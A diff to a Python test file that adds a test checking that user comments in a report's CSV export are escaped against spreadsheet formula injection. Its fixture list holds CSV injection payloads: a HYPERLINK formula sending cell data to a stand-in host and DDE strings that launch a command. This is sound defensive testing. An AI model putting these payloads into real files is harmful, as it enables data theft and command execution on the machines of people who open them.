@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -58,6 +60,23 @@ async def test_the_day_adds_up(store: Store) -> None:
     assert report["kb"]["unmatched"][0]["text"] == "strange thing t2"
     assert report["volume"]["total"] == 6
     assert report["volume"]["by_weekday_hour"][1][9] == 6  # Tuesday, 09:00 UTC
+
+
+async def test_a_user_s_words_in_the_csv_never_run_as_a_formula(store: Store) -> None:
+    """A rating comment, an unmatched question or a subject went into the export as the
+    user wrote it: "=HYPERLINK(…)" or "@SUM(…)" ran when the lead opened it in Excel."""
+    d = await seed_desk(store)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
+               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]  # fmt: skip
+    for n, comment in enumerate(hostile):
+        await d.bot_solves("telegram", f"x{n}", 5, comment)
+    report = await ReportService(store).report(ReportQuery(DAY, DAY))
+    cells = [row[1] for row in csv.reader(io.StringIO(as_csv(report)))]
+    for comment in hostile:
+        assert comment not in cells and "'" + comment in cells
+    formulas = [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not
+                c.lstrip("-").replace(".", "", 1).isdigit())]  # fmt: skip
+    assert formulas == []
 
 
 async def test_a_quiet_past_day_reported_again_is_reported_the_same(store: Store) -> None:
